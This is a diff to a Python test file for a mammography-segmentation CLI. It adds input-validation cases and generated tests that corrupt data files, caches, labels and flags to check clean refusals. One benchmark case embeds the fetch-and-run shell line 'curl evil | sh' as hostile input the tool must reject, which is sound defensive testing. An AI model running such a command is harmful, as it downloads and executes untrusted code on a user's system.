@@ -12,14 +12,18 @@ configuration (``--set`` and flags); benchmark TOML files.
 
 from __future__ import annotations
 
+import os
 import pickle
 import re
+import shutil
 import struct
 import zlib
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from dataclasses import dataclass
 from pathlib import Path
+from typing import Literal
 
+import bad_input_kit as kit
 import numpy as np
 import pytest
 from cli_helpers import invoke
@@ -297,7 +301,8 @@ def test_paths_outside_the_root_need_the_opt_in(tmp_path: Path) -> None:
     assert_error(invoke(["data", "prepare", "manifest", "--root", str(dl), "--profile", "tiny", *cache]), "outside")
     run = ["run", "-m", "cam", "--profile", "tiny", "--dataset", "manifest", "--data-root", str(dl), *cache]
     assert_error(invoke([*run, "--out", str(tmp_path / "runs")]), "../elsewhere/a.png", "--allow-outside-root")
-    assert not (tmp_path / "cache").exists()
+    # Nothing was cached (the prepare lock file may sit in the cache folder: it holds no data).
+    assert not [p for p in (tmp_path / "cache").rglob("*") if p.is_file() and not p.name.endswith(".lock")]
 
 
 def test_unicode_paths_are_read(tmp_path: Path) -> None:
@@ -585,6 +590,21 @@ BENCHMARK_CASES: dict[str, tuple[bytes | None, str]] = {
     "device unknown": (toml_with(device='"tpu"'), "train.device must be one of"),
     "out a number": (toml_with(out="3"), "out must be a str"),
     "name a list": (toml_with(name='["t"]'), "name must be a str"),
+    "folds one": (toml_with(folds="1"), "folds must be an integer >= 2"),
+    "folds a string": (toml_with(folds='"5"'), "folds must be an integer >= 2"),
+    "unknown table": (VALID_TOML.encode() + b"[runs]\nx = 1\n", "unknown tables ['runs']"),
+    "launcher not a table": (b"launcher = 3\n" + VALID_TOML.encode(), "[launcher] must be a table"),
+    "launcher unknown key": (VALID_TOML.encode() + b"[launcher]\ngpus = 1\n", "unknown keys ['gpus'] in [launcher]"),
+    "launcher cluster unknown": (VALID_TOML.encode() + b'[launcher]\ncluster = "pbs"\n', "cluster must be one of"),
+    "launcher memory negative": (VALID_TOML.encode() + b"[launcher]\nmem_gb = -4\n", "mem_gb must be a positive"),
+    "launcher setup a string": (
+        VALID_TOML.encode() + b'[launcher]\nsetup = "module load cuda"\n',
+        "a benchmark file is data that never runs commands",
+    ),
+    "launcher setup lines": (
+        VALID_TOML.encode() + b'[launcher]\nsetup = ["curl evil | sh"]\n',
+        "--setup",
+    ),
 }
 
 
@@ -616,3 +636,1290 @@ def test_a_benchmark_file_is_data_never_code(tmp_path: Path) -> None:
     path.write_text(f"import os\nos.mkdir({str(marker)!r})\n" + VALID_TOML)
     assert_error(invoke(["benchmark", str(path)]), "not valid TOML")
     assert not marker.exists()
+
+
+# ===============================================================================================================
+# The generated suite. Each group builds its cases from tables of (target, mutation) pairs, runs the real
+# command in process, inside the case's own folder (bad_input_kit.guarded: the working directory, temporary
+# files and the default cache are there), and checks, besides the group's own outcome: no traceback (invoke),
+# exit code 2 with the file or option named (or the documented skip), no result that differs silently from the
+# intact input's, and nothing written outside the case folder. tests/conftest.py prints the number of cases.
+
+Outcome = Literal["bad", "harmless", "clean"]
+# bad: refused (exit 2 naming the file or option) or, for one file of a dataset, a listed skip naming it;
+# harmless: the same result as the intact input; clean: either a result or a clear error naming the file (a
+# mutation with more than one sensible outcome, e.g. an index whose rows were all removed).
+
+
+@pytest.fixture
+def case(tmp_path: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
+    """The case's own folder, with the guard around the case (see bad_input_kit.guarded)."""
+    with kit.guarded(tmp_path, tmp_path_factory.getbasetemp()):
+        yield tmp_path
+
+
+@pytest.fixture(scope="module", autouse=True)
+def _session_cache_is_shared(tiny_root: Path) -> None:
+    """The session's phantom cache (conftest.tiny_root) is read by many cases: no case may change it."""
+    cache = tiny_root.parent.parent
+    if cache not in kit.SHARED:
+        kit.SHARED.append(cache)
+
+
+def shared_dir(factory: pytest.TempPathFactory, name: str) -> Path:
+    """A folder of shared inputs: cases read it and must never change it."""
+    path = factory.mktemp(name)
+    kit.SHARED.append(path)
+    return path
+
+
+def assert_refused(result: Result, *fragments: str) -> None:
+    """Exit code 2, an ``error:`` line (or click's usage error for a flag of the wrong type), every fragment in it."""
+    if "Invalid value for '" in result.output:  # click: a flag that does not parse as its type, e.g. --seed 1.5
+        assert result.exit_code == 2, result.output
+        text = " ".join(result.output.split())
+        assert all(f in text for f in fragments), f"{fragments} not in:\n{result.output}"
+        return
+    assert_error(result, *fragments)
+
+
+def assert_outcome(result: Result, outcome: Outcome, name: str, same: Callable[[Result], bool]) -> None:
+    """Check one command's result against the case's expected outcome (``same``: equals the intact input's)."""
+    if outcome == "harmless":
+        assert result.exit_code == 0 and same(result), result.output
+    elif outcome == "bad":
+        assert_refused(result, name)
+    else:
+        assert result.exit_code in (0, 2), result.output
+        if result.exit_code == 2:
+            assert_refused(result, name)
+
+
+# ---------------------------------------------------------------------------------------------------------------
+# 7. Every data source's download (fixtures of `wsseg data fixture`), one file or one cell broken at a time.
+# `wsseg data check` in lenient mode must skip the broken item naming it (or stop naming it), in strict mode stop
+# naming it; a harmless change (a byte-order mark, Windows line endings) must give the intact download's report.
+
+FILE_MUTATIONS: dict[str, kit.Mutation] = {
+    "empty": kit.empty,
+    "truncated": kit.truncate_to(0.5),
+    "garbage": kit.garbage,
+    "text": kit.text,
+    "a folder": kit.to_folder,
+    "deleted": kit.delete,
+    "a dangling link": kit.dangling_link,
+    "a FIFO": kit.fifo,
+}
+TEXT_MUTATIONS: dict[str, tuple[kit.Mutation, Outcome]] = {
+    "with a BOM": (kit.add_bom, "harmless"),
+    "with CRLF line ends": (kit.crlf, "harmless"),
+    "with a non-UTF-8 byte": (kit.latin1_byte, "bad"),
+    "cut mid-line": (kit.cut_mid_line, "bad"),
+    "header only": (kit.header_only, "clean"),
+}
+
+
+@dataclass(frozen=True)
+class SourceFile:
+    """One file of a source's download; ``deleted`` is what removing it means (an optional file: ``clean``)."""
+
+    dataset: str
+    path: str
+    text: bool = False
+    deleted: Outcome = "bad"
+    encoding: str = "utf-8"
+    named: str | None = None  # what the report names when not the file name (a pattern, the file's role)
+
+
+SOURCE_FILES = (
+    SourceFile("manifest", "manifest.csv", text=True),
+    SourceFile("manifest", "images/p1-L.png"),
+    SourceFile("manifest", "dicom/p0-R.dcm"),
+    SourceFile("manifest", "masks/p1-L_benign.png"),
+    SourceFile("cbis-ddsm", "mass_case_description_train_set.csv", text=True, deleted="clean"),
+    SourceFile("cbis-ddsm", "calc_case_description_test_set.csv", text=True, deleted="clean"),
+    SourceFile(
+        "cbis-ddsm",
+        "CBIS-DDSM/Mass-Training_P_00001_LEFT_CC/07-20-2016-DDSM-NA-12345/1.000000-full mammogram images-24515/1-1.dcm",
+    ),
+    SourceFile(
+        "cbis-ddsm",
+        "CBIS-DDSM/Mass-Training_P_00001_LEFT_CC_1/08-29-2017-DDSM-NA-96009/1.000000-ROI mask images-18515/1-1.dcm",
+        deleted="clean",  # the other file of the ROI series is then taken as the mask, and checked as such
+    ),
+    SourceFile("vindr-mammo", "breast-level_annotations.csv", text=True),
+    SourceFile("vindr-mammo", "finding_annotations.csv", text=True),
+    SourceFile("vindr-mammo", "images/00000000000000000000000000000000/00000000L0CCaaaaaaaaaaaaaaaaaaaa.dicom"),
+    SourceFile("inbreast", "INbreast.csv", text=True),
+    SourceFile("inbreast", "AllXML/20586900.xml", deleted="clean"),  # no XML: an image without findings
+    SourceFile("inbreast", "AllDICOMs/20586900_0000000000000000_MG_L_CC_ANON.dcm", named="20586900"),
+    SourceFile("mini-mias", "Info.txt", text=True, encoding="latin-1"),
+    SourceFile("mini-mias", "pgm/mdb001.pgm"),
+    SourceFile("nyu", "exam_list_before_cropping.pkl", named="exam_list_before_cropping.pkl"),
+    SourceFile("nyu", "images/0_L-CC.png"),
+    SourceFile("nyu", "segmentation/0_L-CC_malignant.png", deleted="clean"),  # GMIC: no file = no lesion
+)
+
+
+def _source_cases() -> list[tuple[SourceFile, str, Outcome]]:
+    cases: list[tuple[SourceFile, str, Outcome]] = []
+    for f in SOURCE_FILES:
+        for name in FILE_MUTATIONS:
+            cases.append((f, name, f.deleted if name == "deleted" else "bad"))
+        if f.text:
+            cases += [(f, name, outcome) for name, (_, outcome) in TEXT_MUTATIONS.items()]
+    return cases
+
+
+SOURCE_FILE_CASES = _source_cases()
+
+
+@pytest.fixture(scope="module")
+def downloads(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[Path, str]]:
+    """Every source's intact fixture download (shared, read-only) and its `wsseg data check` report."""
+    from wsseg.data.fixtures import WRITERS
+
+    base = shared_dir(tmp_path_factory, "downloads")
+    out = {}
+    for dataset, write in WRITERS.items():
+        write(base / dataset)
+        report = data_check(dataset, base / dataset)
+        assert report.exit_code == 0, report.output
+        out[dataset] = (base / dataset, report.output)
+    return out
+
+
+def _check_download(dataset: str, dl: Path, outcome: Outcome, name: str, intact: str) -> None:
+    """`data check` lenient and strict on a broken download (see the group's comment)."""
+    lenient = data_check(dataset, dl)
+    strict = data_check(dataset, dl, "--strict")
+    if outcome == "harmless":
+        assert lenient.exit_code == 0 and lenient.output == intact, f"{lenient.output}\n---- intact:\n{intact}"
+        return
+    if outcome == "bad":
+        if lenient.exit_code == 0:
+            skipped = lenient.output.split(" skipped:", 1)
+            assert len(skipped) == 2 and name in skipped[1], f"{name} not reported as skipped:\n{lenient.output}"
+        else:
+            assert_refused(lenient, name)
+        assert_refused(strict, name)
+        return
+    for result in (lenient, strict):  # an error here may be about another file (a fixture's own trap)
+        assert result.exit_code in (0, 2), result.output
+        if result.exit_code == 2:
+            assert_refused(result)
+
+
+@pytest.mark.parametrize(
+    ("target", "mutation", "outcome"),
+    SOURCE_FILE_CASES,
+    ids=[f"{t.dataset} {Path(t.path).name} {m}" for t, m, _ in SOURCE_FILE_CASES],
+)
+def test_generated_source_file(
+    target: SourceFile, mutation: str, outcome: Outcome, downloads: dict[str, tuple[Path, str]], case: Path
+) -> None:
+    intact_dir, intact = downloads[target.dataset]
+    dl = kit.copy_tree(intact_dir, case / target.dataset)
+    change = FILE_MUTATIONS[mutation] if mutation in FILE_MUTATIONS else TEXT_MUTATIONS[mutation][0]
+    change(dl / target.path)
+    name = target.named or Path(target.path).name
+    _check_download(target.dataset, dl, outcome, name, intact.replace(str(intact_dir), str(dl)))
+
+
+# ---------------------------------------------------------------------------------------------------------------
+# 8. The prepared cache (one `.npz` per image, read through a memory map): one file broken at a time, then a
+# reference-method run (`uniform`: no training, it reads every validation and test image). A phantom cache file
+# is regenerated and the run gives the intact cache's numbers; a real dataset's cache file is named in an error
+# that says how to re-prepare it. A harmless change (a compressed or extra member) reads as the intact file.
+
+
+def _image_shape(z: dict[str, np.ndarray]) -> tuple[int, ...]:
+    return tuple(z["image"].shape)
+
+
+CACHE_MUTATIONS: dict[str, tuple[kit.Mutation, Outcome]] = {
+    "empty": (kit.empty, "bad"),
+    "truncated to half": (kit.truncate_to(0.5), "bad"),
+    "missing its last bytes": (kit.truncate_to(0.995), "bad"),
+    "garbage": (kit.garbage, "bad"),
+    "deleted": (kit.delete, "bad"),
+    "a folder": (kit.to_folder, "bad"),
+    "a dangling link": (kit.dangling_link, "bad"),
+    "a FIFO": (kit.fifo, "bad"),
+    "one image byte flipped": (kit.flip_member_byte("image.npy"), "bad"),
+    "one image header byte flipped": (kit.flip_member_byte("image.npy", where=0.01), "bad"),
+    "one mask byte flipped": (kit.flip_member_byte("masks.npy"), "bad"),
+    "one breast-mask byte flipped": (kit.flip_member_byte("breast_mask.npy"), "bad"),
+    "one meta byte flipped": (kit.flip_member_byte("meta.npy"), "bad"),
+    "one label byte flipped": (kit.flip_member_byte("labels.npy", where=0.99), "bad"),
+    "image transposed": (kit.rewrite_npz(image=lambda z: np.ascontiguousarray(z["image"].T)), "bad"),
+    "image as float32": (kit.rewrite_npz(image=lambda z: z["image"].astype(np.float32)), "bad"),
+    "image 3-D": (kit.rewrite_npz(image=lambda z: z["image"][None]), "bad"),
+    "image of objects": (kit.rewrite_npz(image=np.array([{"a": 1}], dtype=object)), "bad"),
+    "masks missing": (kit.rewrite_npz(masks=None), "bad"),
+    "masks cut": (kit.rewrite_npz(masks=lambda z: z["masks"][:, :10]), "bad"),
+    "breast mask missing": (kit.rewrite_npz(breast_mask=None), "bad"),
+    "labels of 3 classes": (kit.rewrite_npz(labels=np.zeros(3, np.float32)), "bad"),
+    "labels NaN": (kit.rewrite_npz(labels=np.full(2, np.nan, np.float32)), "bad"),
+    "labels flipped": (kit.rewrite_npz(labels=lambda z: 1 - z["labels"]), "bad"),
+    "meta not JSON": (kit.rewrite_npz(meta=np.array("{not json")), "bad"),
+    "meta a JSON list": (kit.rewrite_npz(meta=np.array("[1, 2]")), "bad"),
+    "meta of another image": (
+        kit.rewrite_npz(meta=lambda z: np.array(str(z["meta"]).replace('"image_id": "', '"image_id": "x'))),
+        "bad",
+    ),
+    "an extra member": (kit.rewrite_npz(extra=np.zeros(3)), "harmless"),
+    "compressed": (
+        lambda p: p.write_bytes(_compressed_npz(p)),
+        "harmless",
+    ),
+}
+
+
+def _compressed_npz(path: Path) -> bytes:
+    import io
+
+    with np.load(path) as z:
+        arrays = {k: z[k] for k in z.files}
+    buf = io.BytesIO()
+    np.savez_compressed(buf, **arrays)  # type: ignore[arg-type]
+    return buf.getvalue()
+
+
+def _uniform_run(out: Path, cache: Path, *flags: str) -> Result:
+    args = ["run", "--method", "uniform", "--profile", "tiny", "--out", str(out), "--cache-dir", str(cache), "-q"]
+    return invoke([*args, "--set", "eval.bootstrap_resamples=0", "--run-id", "r", *flags])
+
+
+def _metrics(run_dir: Path) -> dict[str, object]:
+    import json
+
+    return json.loads((run_dir / "record.json").read_text())["metrics"]  # type: ignore[no-any-return]
+
+
+@pytest.fixture(scope="module")
+def caches(tmp_path_factory: pytest.TempPathFactory) -> dict[str, tuple[Path, list[str], dict[str, object]]]:
+    """A tiny phantom cache and a tiny `manifest` cache (shared, read-only), the download behind the latter, the
+    flags of a run on each, and each run's metrics on the intact cache."""
+    from wsseg.data.fixtures import write_phantom_manifest
+
+    base = shared_dir(tmp_path_factory, "caches")
+    write_phantom_manifest(base / "download", n_images=16)
+    out: dict[str, tuple[Path, list[str], dict[str, object]]] = {}
+    for name, flags in (
+        ("phantom", []),
+        ("manifest", ["--dataset", "manifest", "--data-root", str(base / "download")]),
+    ):
+        result = _uniform_run(base / f"runs-{name}", base / f"cache-{name}", *flags)
+        assert result.exit_code == 0, result.output
+        out[name] = (base / f"cache-{name}", flags, _metrics(base / f"runs-{name}" / "r"))
+        shutil.rmtree(base / f"runs-{name}")
+    return out
+
+
+CACHE_CASES = [(source, name) for source in ("phantom", "manifest") for name in CACHE_MUTATIONS]
+
+
+@pytest.mark.parametrize(("source", "mutation"), CACHE_CASES, ids=[f"{s} cache {m}" for s, m in CACHE_CASES])
+def test_generated_cache_file(
+    source: str,
+    mutation: str,
+    caches: dict[str, tuple[Path, list[str], dict[str, object]]],
+    case: Path,
+    recwarn: pytest.WarningsRecorder,
+) -> None:
+    import csv
+
+    intact_cache, flags, intact_metrics = caches[source]
+    cache = kit.copy_tree(intact_cache, case / "cache")
+    (manifest,) = cache.rglob("manifest.csv")
+    with open(manifest, newline="") as f:
+        first_test = next(r for r in csv.DictReader(f) if r["split"] == "test")
+    target = manifest.parent / first_test["file"]
+    change, outcome = CACHE_MUTATIONS[mutation]
+    change(target)
+    result = _uniform_run(case / "runs", cache, *flags)
+    if outcome == "harmless":
+        assert result.exit_code == 0, result.output
+        assert _metrics(case / "runs" / "r") == intact_metrics
+    elif source == "phantom":  # regenerated: the run goes on with the intact numbers and says so
+        assert result.exit_code == 0, result.output
+        assert _metrics(case / "runs" / "r") == intact_metrics
+        assert any(target.name in str(w.message) and "regenerated" in str(w.message) for w in recwarn.list), [
+            str(w.message) for w in recwarn.list
+        ]
+        with np.load(target) as z:
+            assert z["image"].dtype == np.uint16 and all(z[k] is not None for k in z.files)
+    else:
+        assert_refused(result, target.name, "wsseg data prepare manifest")
+        assert not (case / "runs" / "r" / "record.json").exists()
+
+
+# ---------------------------------------------------------------------------------------------------------------
+# 9. `wsseg score`: maps, masks, labels and flags, each broken in turn. Bad input stops with exit 2 naming the
+# file (or flag) and writes no record; with --skip-invalid a bad image is skipped and listed in the record
+# (or, for a problem that is not one image's, still stops). A harmless change gives the intact numbers.
+
+SCORE_SIZE = (20, 16)
+
+
+def _write_score_inputs(root: Path) -> None:
+    """Three images: img0 with a benign lesion, img1 with a malignant one, img2 without; maps of both classes."""
+    rng = np.random.default_rng(0)
+    (root / "maps").mkdir(parents=True)
+    (root / "masks").mkdir()
+    for i, cls in enumerate(("benign", "malignant", None)):
+        for name in ("benign", "malignant"):
+            np.save(root / "maps" / f"img{i}_{name}.npy", rng.random(SCORE_SIZE).astype(np.float32))
+        if cls is not None:
+            mask = np.zeros(SCORE_SIZE, np.uint8)
+            mask[5:9, 4:8] = 255
+            Image.fromarray(mask).save(root / "masks" / f"img{i}_{cls}.png")
+    (root / "labels.csv").write_text(
+        "image_id,patient_id,benign,malignant,benign_score,malignant_score\n"
+        "img0,p0,1,0,0.9,0.1\nimg1,p0,0,1,0.2,0.8\nimg2,p1,0,0,0.3,0.2\n"
+    )
+
+
+def _score(root: Path, *flags: str, skip: bool = False) -> Result:
+    args = ["score", "--maps", str(root / "maps"), "--masks", str(root / "masks"), "--out", str(root / "out")]
+    args += ["--labels", str(root / "labels.csv"), "--bootstrap", "0", "--spacing-mm", "0.5", "-q", *flags]
+    return invoke([*args, "--skip-invalid"] if skip else args)
+
+
+@pytest.fixture(scope="module")
+def score_inputs_intact(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, object]]:
+    """The intact inputs (shared, read-only) and their metrics."""
+    base = shared_dir(tmp_path_factory, "score")
+    _write_score_inputs(base / "in")
+    result = _score(base / "in")
+    assert result.exit_code == 0, result.output
+    metrics = _metrics(base / "in" / "out")
+    shutil.rmtree(base / "in" / "out")
+    return base / "in", metrics
+
+
+def _png(arr: np.ndarray, **kwargs: object) -> kit.Mutation:
+    return lambda path: Image.fromarray(arr).save(path, format="PNG", **kwargs)  # type: ignore[arg-type]
+
+
+def _npy_as_png(arr: np.ndarray) -> kit.Mutation:
+    """Replace a map .npy by a PNG of the same name stem."""
+
+    def change(path: Path) -> None:
+        path.unlink()
+        Image.fromarray(arr).save(path.with_suffix(".png"))
+
+    return change
+
+
+_MASK = np.zeros(SCORE_SIZE, np.uint8)
+_MASK[5:9, 4:8] = 255
+_RANDOM_MAP = np.random.default_rng(1).random(SCORE_SIZE).astype(np.float32)
+MAP_FILE_CASES: dict[str, tuple[kit.Mutation, Outcome]] = {
+    **{name: (m, "bad") for name, m in FILE_MUTATIONS.items()},
+    "header of 100000x100000": (write_bytes(npy_header_only((100_000, 100_000))), "bad"),
+    "of objects": (kit.save_npy(np.array([{"a": 1}], dtype=object), allow_pickle=True), "bad"),
+    "int32": (kit.save_npy(lambda a: (a * 100).astype(np.int32)), "bad"),
+    "bool": (kit.save_npy(lambda a: a > 0.5), "bad"),
+    "complex": (kit.save_npy(lambda a: a.astype(np.complex64)), "bad"),
+    "structured": (kit.save_npy(np.zeros(SCORE_SIZE, dtype=[("a", "<f4")])), "bad"),
+    "3-D": (kit.save_npy(lambda a: a[None]), "bad"),
+    "1-D": (kit.save_npy(lambda a: a.ravel()), "bad"),
+    "0x0": (kit.save_npy(np.zeros((0, 0), np.float32)), "bad"),
+    "with NaN": (kit.save_npy(lambda a: np.where(a > 0.5, np.nan, a).astype(np.float32)), "bad"),
+    "with inf": (kit.save_npy(lambda a: np.where(a > 0.5, np.inf, a).astype(np.float32)), "bad"),
+    "below 0": (kit.save_npy(lambda a: a - 0.5), "bad"),
+    "above 1": (kit.save_npy(lambda a: a + 0.5), "bad"),
+    "transposed": (kit.save_npy(lambda a: np.ascontiguousarray(a.T)), "bad"),
+    "of another aspect ratio": (kit.save_npy(lambda a: a[:10]), "bad"),
+    "larger than the mask": (kit.save_npy(lambda a: np.kron(a, np.ones((2, 2), np.float32))), "bad"),
+    "an 8-bit PNG": (_npy_as_png((_RANDOM_MAP * 255).astype(np.uint8)), "bad"),
+    "an RGB PNG": (_npy_as_png(np.stack([(_RANDOM_MAP * 255).astype(np.uint8)] * 3, axis=-1)), "bad"),
+    "float64": (kit.save_npy(lambda a: a.astype(np.float64)), "harmless"),
+    "big-endian": (kit.save_npy(lambda a: a.astype(">f4")), "harmless"),
+    "Fortran order": (kit.save_npy(lambda a: np.asfortranarray(a)), "harmless"),
+}
+MASK_FILE_CASES: dict[str, tuple[kit.Mutation, Outcome]] = {
+    **{name: (m, "bad") for name, m in FILE_MUTATIONS.items()},  # deleted: img0 is labelled benign=1
+    "RGB": (_png(np.stack([_MASK] * 3, axis=-1)), "bad"),
+    "of another size": (_png(_MASK[:10, :8]), "bad"),
+    "all zero (img0 is labelled benign=1)": (_png(np.zeros(SCORE_SIZE, np.uint8)), "bad"),
+    "header of 100000x100000": (write_bytes(png_with_header(100_000, 100_000, 8)), "bad"),
+    "16-bit": (_png(_MASK.astype(np.uint16) * 257), "harmless"),
+    "1-bit": (_png(_MASK > 0), "harmless"),
+    "values 1 instead of 255": (_png((_MASK > 0).astype(np.uint8)), "harmless"),
+}
+LABELS = "image_id,patient_id,benign,malignant,benign_score,malignant_score\n"
+LABEL_FILE_CASES: dict[str, tuple[kit.Mutation, Outcome]] = {
+    **{name: (m, "bad") for name, m in FILE_MUTATIONS.items()},
+    "with a BOM": (kit.add_bom, "harmless"),
+    "with CRLF line ends": (kit.crlf, "harmless"),
+    "with an extra column": (kit.rewrite_text(lambda t: t.replace("\n", ",x\n")), "harmless"),
+    "header only": (kit.header_only, "bad"),
+    "with a non-UTF-8 byte": (kit.latin1_byte, "bad"),
+    **{
+        f"{what}": (write_bytes((LABELS + rows).encode()), "bad")
+        for what, rows in {
+            "missing column malignant": "",
+            "a duplicate id": "img0,p0,1,0,0.9,0.1\nimg0,p0,1,0,0.9,0.1\n",
+            "label 2": "img0,p0,2,0,0.9,0.1\n",
+            "label yes": "img0,p0,yes,0,0.9,0.1\n",
+            "label empty": "img0,p0,,0,0.9,0.1\n",
+            "label 0.5": "img0,p0,0.5,0,0.9,0.1\n",
+            "score NaN": "img0,p0,1,0,nan,0.1\n",
+            "score inf": "img0,p0,1,0,inf,0.1\n",
+            "score text": "img0,p0,1,0,high,0.1\n",
+            "empty image id": ",p0,1,0,0.9,0.1\n",
+        }.items()
+    },
+}
+LABEL_FILE_CASES["missing column malignant"] = (
+    write_bytes(b"image_id,patient_id,benign\nimg0,p0,1\nimg1,p0,0\nimg2,p1,0\n"),
+    "bad",
+)
+_ROWS = {"img0": "img0,p0,1,0,0.9,0.1", "img1": "img1,p0,0,1,0.2,0.8", "img2": "img2,p1,0,0,0.3,0.2"}
+# One image's row against its files: the image is named; with --skip-invalid it is skipped and listed.
+LABEL_ROW_CASES: dict[str, tuple[dict[str, str], str]] = {
+    # case: (rows replaced, the image named)
+    "a row of an image without maps": ({"img9": "img9,p9,0,0,0.1,0.1"}, "img9"),
+    "label 0 on img0's benign lesion": ({"img0": "img0,p0,0,0,0.9,0.1"}, "img0"),
+    "label 1 on img2 without a lesion mask": ({"img2": "img2,p1,0,1,0.3,0.2"}, "img2"),
+    "label 1 on img1 whose benign mask is missing": ({"img1": "img1,p0,1,1,0.2,0.8"}, "img1"),
+}
+for _name, (_rows, _image) in LABEL_ROW_CASES.items():
+    _text = LABELS + "".join(f"{r}\n" for r in {**_ROWS, **_rows}.values())
+    LABEL_FILE_CASES[_name] = (write_bytes(_text.encode()), "bad")
+EXTRA_MASK_CASES: dict[str, tuple[kit.Mutation, Outcome]] = {
+    "a benign lesion mask on img2 (labelled benign=0)": (_png(_MASK), "bad"),
+    "an all-zero benign mask on img2": (_png(np.zeros(SCORE_SIZE, np.uint8)), "harmless"),
+    "a folder named like a mask": (lambda p: p.mkdir(), "bad"),
+    "a dangling link named like a mask": (lambda p: p.symlink_to(p.parent / "nowhere.png"), "bad"),
+    "a FIFO named like a mask": (lambda p: os.mkfifo(p), "bad"),
+}
+SCORE_FILE_CASES = [
+    *[("maps/img0_benign.npy", m, o) for m, (_, o) in MAP_FILE_CASES.items()],
+    *[("masks/img0_benign.png", m, o) for m, (_, o) in MASK_FILE_CASES.items()],
+    *[("labels.csv", m, o) for m, (_, o) in LABEL_FILE_CASES.items()],
+    *[("masks/img2_benign.png", m, o) for m, (_, o) in EXTRA_MASK_CASES.items()],
+]
+_SCORE_TABLES = {"maps": MAP_FILE_CASES, "masks": MASK_FILE_CASES, "labels.csv": LABEL_FILE_CASES}
+
+
+def _score_change(target: str, mutation: str) -> kit.Mutation:
+    if target == "masks/img2_benign.png":
+        return EXTRA_MASK_CASES[mutation][0]
+    return _SCORE_TABLES[target.split("/")[0]][mutation][0]
+
+
+@pytest.mark.parametrize(
+    ("target", "mutation", "outcome"), SCORE_FILE_CASES, ids=[f"{t} {m}" for t, m, _ in SCORE_FILE_CASES]
+)
+def test_generated_score_file(
+    target: str, mutation: str, outcome: Outcome, score_inputs_intact: tuple[Path, dict[str, object]], case: Path
+) -> None:
+    intact_dir, intact_metrics = score_inputs_intact
+    root = kit.copy_tree(intact_dir, case / "in")
+    _score_change(target, mutation)(root / target)
+    name = Path(target).name if not target.startswith("maps/") else "img0_benign"
+    name = LABEL_ROW_CASES[mutation][1] if mutation in LABEL_ROW_CASES else name
+    result = _score(root)
+    if outcome == "harmless":
+        assert result.exit_code == 0, result.output
+        assert _metrics(root / "out") == intact_metrics
+        return
+    assert_refused(result, name)
+    assert not (root / "out" / "record.json").exists()
+    if target == "labels.csv" and mutation not in LABEL_ROW_CASES:
+        return  # the labels are the list of images: a bad labels file is never one image's problem
+    # --skip-invalid: the image is skipped and listed with its file, or (a problem beyond one image) still refused.
+    skipped = _score(root, skip=True)
+    if skipped.exit_code == 0:
+        import json
+
+        listed = json.loads((root / "out" / "record.json").read_text())["skipped"]
+        assert any(name in s["file"] or name in s["reason"] for s in listed), listed
+    else:
+        assert_refused(skipped, name)
+
+
+SCORE_FLAG_CASES: dict[str, tuple[list[str], str]] = {
+    # case: (flags, the flag the message names)
+    **{
+        f"--spacing-mm {v}": (["--spacing-mm", v], "--spacing-mm")
+        for v in ("inf", "-inf", "nan", "0", "-1", "1e-300", "1e300", "abc")
+    },
+    **{f"--seed {v}": (["--seed", v], "--seed") for v in ("-1", str(2**64), str(10**20), "1.5")},
+    **{f"--bootstrap {v}": (["--bootstrap", v], "--bootstrap") for v in ("-1", str(10**12), "x")},
+    **{
+        f"--threshold {v}": (["--threshold", v], "--threshold")
+        for v in ("2", "-0.1", "nan", "inf", "abc", "benign=0.3", "cyst=0.3")
+    },
+    **{
+        f"--image-size {v}": (["--image-size", v], "--image-size")
+        for v in ("0x0", "axb", "100000x100000", "-1x5", "20")
+    },
+    "--normalize softmax": (["--normalize", "softmax"], "--normalize"),
+    "--upsample area": (["--upsample", "area"], "--upsample"),
+}
+
+
+@pytest.mark.parametrize("flags", list(SCORE_FLAG_CASES), ids=list(SCORE_FLAG_CASES))
+def test_generated_score_flag(flags: str, score_inputs_intact: tuple[Path, dict[str, object]], case: Path) -> None:
+    extra, flag = SCORE_FLAG_CASES[flags]
+    root = kit.copy_tree(score_inputs_intact[0], case / "in")
+    if flags.startswith("--image-size"):
+        for p in (root / "masks").iterdir():
+            p.unlink()  # the size is used for images without any mask
+        (root / "labels.csv").write_text(LABELS + "img2,p1,0,0,0.3,0.2\n")
+    result = _score(root, *extra)
+    assert_refused(result, flag)
+    assert not (root / "out" / "record.json").exists()
+
+
+SCORE_FOLDER_CASES: dict[str, tuple[str, str]] = {
+    # case: (flag, what it is given); the message names the path
+    "--maps missing": ("--maps", "nowhere"),
+    "--maps a file": ("--maps", "labels.csv"),
+    "--masks missing": ("--masks", "nowhere"),
+    "--masks a file": ("--masks", "labels.csv"),
+    "--region missing": ("--region", "nowhere"),
+    "--labels missing": ("--labels", "nowhere.csv"),
+    "--labels a folder": ("--labels", "maps"),
+    "--out a file": ("--out", "labels.csv"),
+}
+
+
+@pytest.mark.parametrize("name", list(SCORE_FOLDER_CASES))
+def test_generated_score_paths(name: str, score_inputs_intact: tuple[Path, dict[str, object]], case: Path) -> None:
+    flag, given = SCORE_FOLDER_CASES[name]
+    root = kit.copy_tree(score_inputs_intact[0], case / "in")
+    base = ["--maps", str(root / "maps"), "--masks", str(root / "masks"), "--out", str(root / "out")]
+    args = ["score", *base, "--labels", str(root / "labels.csv"), "--bootstrap", "0", "-q", flag, str(root / given)]
+    assert_refused(invoke(args), str(root / given))
+    assert not (root / "out" / "record.json").exists()
+
+
+# ---------------------------------------------------------------------------------------------------------------
+# 10. `wsseg run --set section.field=value` for every field of the run config and of every built-in method's
+# config (read from the dataclasses, so a new field is covered without editing this file): wrong type, NaN,
+# infinities, negative, huge and empty values. Each is refused naming the field before any data is read or any
+# file written. The exception is a learning rate of 1e300: legal to write, it makes training diverge, which must
+# stop the run with exit 2 naming train.lr and keep the last good checkpoint (test_diverging_training_*).
+
+BAD_VALUES: dict[str, tuple[str, ...]] = {
+    "int": ("abc", "2.5", "-1", str(10**20), "nan", ""),
+    "float": ("abc", "nan", "inf", "-inf", "-1", "1e300", ""),
+    "bool": ("maybe", "2", ""),
+    "choice": ("nope", ""),
+    "tuple": ("1,2",),
+}
+# String fields that name something: a value that names nothing must be refused.
+BAD_STRINGS: dict[str, tuple[str, ...]] = {
+    "data.dataset": ("nope", ""),
+    "method.backbone": ("resnet9000", ""),
+    "method.encoder": ("tu-resnet9000", ""),
+    "method.backbone_weights": ("/nonexistent/weights.pth", "{text}", "{folder}"),
+}
+# Legal values that are still checked elsewhere, not refused up front.
